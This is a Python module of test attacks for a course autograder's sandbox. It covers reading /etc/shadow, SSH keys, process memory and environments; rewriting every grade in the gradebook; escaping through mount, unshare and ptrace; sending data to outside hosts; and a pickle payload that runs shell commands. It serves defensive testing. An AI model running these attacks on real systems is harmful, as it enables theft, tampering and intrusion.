"""Attacks that reach out of the sandbox: to read, to write, to connect, and to be imported by the grader."""

import pickle

from attack_making import MARK, alone, attack, goes_on

from course.grading.states import State

# Prints the canaries in whatever it can read of these; they lie in all of them. Not the rest: where an output
# repeats a private check, all of it is cut out, and what was read with it would not be seen.
READ = """
def read(*patterns, limit=200_000):
    for pattern in patterns:
        for path in glob.glob(pattern, recursive=True, include_hidden=True):
            try:
                content = open(path, "rb").read(limit)
            except OSError as error:
                print(path, error)
            else:
                print(path, re.findall(rb"canary-[a-z]+-[0-9a-f]{16}", content))
"""

READING = [
    *goes_on(
        "reads private checks and solutions",
        "they lie in the course directory",
        f"""{READ}
read("«root»/solutions/**", "../../solutions/**", "../../../solutions/**", "/*/private.json")
read("/*/*/solutions/*/private.json")
""",
    ),
    *alone(
        "reads the gradebook",
        "sqlite3 on ../../../gradebook.db",
        f"""{READ}
import sqlite3
for path in ("«root»/gradebook.db", "../../../gradebook.db", "gradebook.db"):
    base = attempt(lambda: sqlite3.connect(f"file:{{path}}?mode=ro", uri=True))
    print(attempt(lambda: base.execute("select * from grade").fetchall()))
read("«root»/gradebook.db*", "«root»/grading/**", "«root»/nbgrader_config.py")
""",
    ),
    *goes_on(
        "reads other submissions",
        "before, now and after grading",
        f"""{READ}
read("«root»/submitted/**", "«root»/autograded/**", "«root»/feedback/**", "../*", "/home*/*/*")
""",
    ),
    *alone(
        "walks the whole disk",
        "whatever is mounted must be harmless",
        """
started = time.monotonic()
names = ("private.json", "gradebook.db", "91-attacked.ipynb", "answers.py", "91-attacked.py")
for folder, folders, files in os.walk("/"):
    # Python's packages have such files too: examples. The walk follows no link, and /tmp is one.
    others = [*map(os.path.realpath, ("/proc", "/sys", "/usr", sys.prefix, sys.base_prefix))]
    kept = [name for name in folders if name != "site-packages"]
    folders[:] = [name for name in kept if os.path.join(folder, name) not in others]
    for name in set(files) & set(names):
        if folder != os.getcwd():
            print(folder, name)
            «win»
    if time.monotonic() - started > 2:
        break
""",
    ),
    *alone(
        "reads /etc/shadow",
        "root in the sandbox is not root; and whoever may not read a file may see that it is there",
        """
own = map("/root".__add__, ("/.ssh/id_rsa", "/.bash_history"))
for path in ("/etc/shadow", "/etc/sudoers", *own, "/etc/machine-id"):
    if os.path.lexists(path) or attempt(lambda: open(path).read()):
        «win»
""",
    ),
    *goes_on(
        "reads the grader's home and temporary files",
        "keys and caches lie there",
        f"""{READ}
read("«home»/*canary*", "«temporary»/*canary*", "«home»/.ssh/*", "«home»/.jupyter/**", "«home»/.pgpass")
print(os.listdir(attempt(os.path.expanduser, "~")), os.listdir("/tmp"), os.listdir("/"))
""",
    ),
    *goes_on(
        "reads the environment",
        "of its own process, of every process, and of the one it was forked from",
        f"""{READ}
print(dict(os.environ))
read("/proc/*/environ", "/proc/self/environ", "/proc/thread-self/environ", "/proc/*/cmdline")
environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
print([environ[number] for number in range(3)])
""",
    ),
    *alone(
        "reads its own memory",
        "a fork inherits what its parent knew: nothing secret may ever have been there",
        """
# Canaries have this form; the whole of the memory is searched for them.
form = re.compile(b"canary" + b"-[a-z]+-[0-9a-f]{16}")
found = set()
with open("/proc/self/mem", "rb", 0) as memory:
    for line in open("/proc/self/maps"):
        span, rights, *_ = line.split()
        if not rights.startswith("rw") or "vvar" in line:
            continue
        first, last = (int(part, 16) for part in span.split("-"))
        for place in range(first, last, 2**24):
            try:
                memory.seek(place)
                found |= set(form.findall(memory.read(min(2**24, last - place))))
            except (OSError, ValueError, OverflowError):
                pass
if found:
    print(found)
    «win»
""",
    ),
    *alone(
        "reads the memory of others",
        "the grader's, the warm process's, the first process's",
        """
libc = ctypes.CDLL(None, use_errno=True)
others = {int(name) for name in os.listdir("/proc") if name.isdigit()} | {«pid», os.getppid(), 1}
for pid in others - {os.getpid(), 0}:
    for name in ("mem", "maps", "root", "cwd", "fd", "exe"):
        path = f"/proc/{pid}/{name}"
        for look in (os.listdir, os.readlink, lambda path: open(path, "rb").read(9)):
            print(path, attempt(look, path))
    if libc.ptrace(16, pid, 0, 0) == 0:
        «win»
    buffer = ctypes.create_string_buffer(8)
    here = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 8)
    maps = attempt(lambda: open(f"/proc/{pid}/maps").read()) or "400000-"
    there = (ctypes.c_size_t * 2)(int(maps.partition("-")[0], 16), 8)
    if libc.process_vm_readv(pid, here, 1, there, 1, 0) > 0:
        «win»
if os.path.exists("/proc/«pid»/root«root»"):
    «win»
""",
    ),
    *alone(
        "reads through descriptors that it inherited",
        "a descriptor of a folder is a way around every mount",
        """
import stat
for number in map(int, os.listdir("/proc/self/fd")):
    try:
        is_folder = stat.S_ISDIR(os.fstat(number).st_mode)
    except OSError:  # that of the list itself
        continue
    print(number, attempt(os.readlink, f"/proc/self/fd/{number}"))
    if is_folder:
        «win»
""",
    ),
    *alone(
        "looks for what the grader knows among its objects",
        "an expected value may not be anywhere in the process",
        """
import gc
gc.unfreeze()
names = {"Expected", "Exercise", "GradedLesson", "Submission", "Misconception", "CourseGradebook"}
for thing in gc.get_objects():
    if type(thing).__name__ in names and type(thing).__module__.startswith(("helpers", "course")):
        print(type(thing))
        «win»
print([name for name in sys.modules if name.startswith(("helpers", "course"))])
print(attempt(lambda: __import__("helpers.checks.exercises").exercises.read_exercises(".")))
""",
    ),
]

WRITING = [
    *goes_on(
        "writes into solutions, submissions and feedback",
        "a grade is a file, before it is a grade",
        """
for pattern in ("«root»", "«root»/*", "«root»/*/*", "«root»/*/*/*", "«root»/*/*/*/*"):
    for path in [pattern.replace("*", "x"), *glob.glob(pattern)]:
        for way in (
            lambda: open(path, "ab").write(b"«mark»"), lambda: os.makedirs(path + "/«mark»"),
            lambda: os.unlink(path), lambda: os.rename(path, path + "«mark»"), lambda: os.chmod(path, 0o777),
        ):
            try:
                way()
            except OSError:
                continue
            if not path.startswith(os.path.expanduser("~")):
                print(path)
""",
    ),
    *goes_on(
        "writes into the gradebook",
        "every grade of the class in one line of SQL",
        """
import sqlite3
for path in ("«root»/gradebook.db", "../../../gradebook.db", "../../gradebook.db"):
    try:
        with sqlite3.connect(f"file:{path}?mode=rw", uri=True) as base:
            base.execute("update grade set manual_score = 100, auto_score = 100")
        «win»
    except sqlite3.Error as error:
        print(error)
""",
    ),
    *goes_on(
        "writes into the system",
        "Python, the course's package and the machine's configuration are everybody's",
        """
import helpers, numpy, IPython
places = [os.path.dirname(module.__file__) for module in (helpers, numpy, IPython, os)]
places += ["/etc", "/usr/lib", sys.prefix, sys.base_prefix]
more = ["/usr/local/bin", "/root", "/home", "/", "/sys/kernel", "/proc/sys/kernel", "/var/spool/cron",
        "/lib", "/bin", "/opt", "/srv", "/boot", "/sys/fs/cgroup", "/var/lib"]
for place in places + more:
    for name in ("«mark»", "__init__.py", "passwd", "cgroup.procs", "core_pattern", "hostname"):
        try:
            with open(os.path.join(place, name), "ab"):
                pass
        except OSError:
            continue
        print(place, name)
        if place in places:
            «win»
""",
    ),
    *goes_on(
        "writes into the grader's home and temporary files",
        "what is started tomorrow reads them",
        """
for folder in ("«home»", "«temporary»", "«home»/.ipython/profile_default/startup", "/var/tmp", "/dev/shm"):
    attempt(lambda: os.makedirs(folder, exist_ok=True))
    attempt(lambda: Path(folder, "«mark».py").write_text("raise SystemExit"))
for path in glob.glob("«home»/*canary*") + glob.glob("«temporary»/*canary*"):
    attempt(os.unlink, path)
    «win»
""",
    ),
    *alone(
        "mounts, unshares and changes its root",
        "with a world of its own somebody could be root in it",
        """
libc = ctypes.CDLL(None, use_errno=True)
for flags in (0x10000000, 0x00020000, 0x10000000 | 0x00020000, 0x20000000, 0x40000000):
    # A process with one thread: others may not even ask.
    child = os.fork()
    if child == 0:
        os._exit(libc.unshare(flags) == 0)
    if os.waitpid(child, 0)[1] == 1 << 8:
        «win»
os.makedirs("m", exist_ok=True)
for kind in (b"tmpfs", b"proc", b"sysfs", b"overlay", b"bpf", b"cgroup2", b"mqueue"):
    if libc.mount(kind, b"m", kind, 0, None) == 0:
        «win»
for way in (lambda: os.chroot("m"), lambda: os.mknod("disk", 0o60666, os.makedev(8, 0)), lambda: os.setuid(1),
            lambda: os.setgroups([]), lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)),
            lambda: os.nice(-5), lambda: socket.sethostname(socket.gethostname()),
            lambda: time.clock_settime(0, time.time())):
    try:
        way()
    except (OSError, OverflowError) as error:
        print(error)
    else:
        «win»
""",
    ),
    *alone(
        "takes its limits away",
        "a soft limit can be raised by whoever has it",
        """
import resource
for name in ("RLIMIT_CPU", "RLIMIT_FSIZE", "RLIMIT_NPROC", "RLIMIT_NOFILE", "RLIMIT_CORE"):
    number = getattr(resource, name)
    for limits in ((resource.RLIM_INFINITY,) * 2, (resource.getrlimit(number)[1] + 1,) * 2):
        try:
            resource.setrlimit(number, limits)
        except (OSError, ValueError) as error:
            print(error)
        else:
            «win»
""",
    ),
    *alone(
        "signals the grader",
        "its number is known, and so is the number of every process",
        """
def is_there(pid):
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    except PermissionError:
        pass
    return True

# One of its own can have the grader's number, or a thread of one; but it is younger.
stat = attempt(lambda: Path("/proc/«pid»/stat").read_text().rpartition(")")[2].split())
if is_there(«pid») and (stat is None or stat[19] == "«born»"):
    «win»
""",
    ),
]

NETWORK = [
    *goes_on(
        "connects to loopback",
        "a gradebook in PostgreSQL, a Jupyter server and a debugger listen there",
        """
for family, address in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET, "0.0.0.0"), (socket.AF_INET6, "::1"),
                        (socket.AF_INET, "localhost")):
    try:
        socket.socket(family).connect((address, «port»))
        «win»
    except OSError as error:
        print(error)
# The sandbox has a loopback of its own: whether anything arrived is known to who listens on the real one.
attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"«mark»", ("127.0.0.1", «port»)))
""",
    ),
    *goes_on(
        "connects to unix sockets",
        "an abstract one needs no file, and the warm process has one",
        r"""
addresses = [b"\0" + b"«abstract»", b"«socket»", b"/run/docker.sock", b"/run/dbus/system_bus_socket"]
rows = [line.split() for line in open("/proc/net/unix")]
addresses += [row[7].encode().replace(b"@", b"\0") for row in rows if len(row) > 7]
for address in addresses:
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
        try:
            socket.socket(socket.AF_UNIX, kind).connect(address)
        except OSError:
            continue
        print(address)
        if address in addresses[:4]:
            «win»
""",
    ),
    *goes_on(
        "connects to the outside",
        "answers can be bought, and what was read can be sent",
        """
for way in (
    lambda: socket.create_connection(("192.0.2.1", 80), timeout=0.3),
    lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"«mark»", ("192.0.2.1", 53)),
    lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b"«mark»", ("2001:db8::1", 53)),
    lambda: socket.getaddrinfo("example.org", 80),
    lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
    lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0003),
):
    try:
        way()
        «win»
    except OSError as error:
        print(error)
""",
    ),
]


class _Evil:
    """Unpickled, it runs code: in whichever process is so careless."""

    def __reduce__(self):
        return eval, (f"__import__('os').system('touch /tmp/{MARK} /var/tmp/{MARK}')",)


# Imported in the grader's process or in the kernel in the place of the real one, it would say so.
SHADOW = 'print("attack" + "-won")\nopen("/tmp/«mark»", "w").close()\n'
FORGING_CHECK = (
    SHADOW
    + """
def check(label, *_, **__):
    from IPython.display import display
    display({"application/vnd.hyperparameter-course.observation+json": {"label": label, "data": 0}}, raw=True)
"""
)

OWN_MODULES = """«prelude»
for name in ("numpy", "json", "helpers", "sitecustomize", "random"):
    Path(f"{name}.py").write_text('def check(label, *_, **__): print("✓", label)')
sys.path.insert(0, os.getcwd())
sys.path_importer_cache.clear()
os.environ["PYTHONPATH"] = os.getcwd()
for name in [name for name in sys.modules if name.startswith("helpers")]:
    del sys.modules[name]
from helpers import check
"""

FILES = [
    attack(
        "shadow modules beside the notebook",
        "Python looks for modules where the notebook lies",
        solved=("quiz_1",),
        files={
            "helpers.py": FORGING_CHECK,
            "helpers/__init__.py": "",
            "helpers/checks/graded_cell.py": FORGING_CHECK,
            "IPython/__init__.py": SHADOW,
            **dict.fromkeys(
                ("numpy.py", "json.py", "random.py", "zmq.py", "nbformat.py", "ipykernel.py", "typing.py"),
                SHADOW,
            ),
            "sitecustomize.py": SHADOW,
            "usercustomize.py": SHADOW,
            "site-packages.pth": "import os; os.system('touch /tmp/«mark»')",
            "conftest.py": SHADOW,
            "nbgrader_config.py": SHADOW,
            "jupyter_config.py": SHADOW,
            "numpy.so": b"\x7fELF",
            "numpy.zip": b"PK\x03\x04",
        },
        state=(State.GRADED, State.REPAIRED),
    ),
    attack(
        "start-up files of IPython and Jupyter",
        "a profile is code that runs in every kernel",
        solved=("quiz_1",),
        files={
            ".ipython/profile_default/startup/00.py": SHADOW,
            "profile_default/startup/00.py": SHADOW,
            "ipython_config.py": SHADOW,
            "ipython_kernel_config.py": SHADOW,
            "ipython_config.json": '{"InteractiveShellApp": {"code_to_run": "open(\'/tmp/«mark»\', \'w\')"}}',
            "ipython_kernel_config.json": '{"IPKernelApp": {"code_to_run": "open(\'/tmp/«mark»\', \'w\')"}}',
            "jupyter_config.json": '{"KernelManager": {"transport": "tcp", "ip": "0.0.0.0"}}',
            "kernel.json": '{"argv": ["touch", "/tmp/«mark»"], "display_name": "x", "language": "python"}',
            "pyvenv.cfg": "home = /tmp",
            "python._pth": ".",
            "matplotlibrc": "backend: module://«mark»",
        },
        state=(State.GRADED, State.REPAIRED),
    ),
    attack(
        "modules that it writes itself",
        "the checks are imported once more, from where the student can write",
        solved=("centered",),
        middle=OWN_MODULES,
        code={"num_updates": "def num_updates(*_):\n    return 10", "quiz_1": 'quiz_1 = "b"'},
    ),
    attack(
        "pickles",
        "to load one is to run it",
        solved=("quiz_1",),
        files={
            "weights.pkl": pickle.dumps(_Evil()),
            "data.npy": b"\x93NUMPY\x01\x00v\x00{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
            + b" " * 60
            + b"\n"
            + pickle.dumps(_Evil()),
            "91-attacked.pickle": pickle.dumps(_Evil()),
        },
        code={
            "centered": """
import pickle

class Evil:
    def __reduce__(self):
        return print, ("attack" + "-won",)

def centered(values):
    return [pickle.dumps(Evil()), np.array([Evil()], dtype=object), Evil()]
"""
        },
    ),
    attack(
        "checks of its own beside the notebook",
        "expected values that are the student's say nothing",
        code={"centered": "def centered(values):\n    return 0"},
        files={
            "checks.json": '{"exercises": {"centered": {"private": 0, "misconceptions": [], "checks": '
            '[{"label": "three numbers", "expected": 0}, {"label": "a table", "expected": 0}]}}}',
            "private.json": '{"exercises": {}}',
        },
    ),
]

REACHING = [*READING, *WRITING, *NETWORK, *FILES]
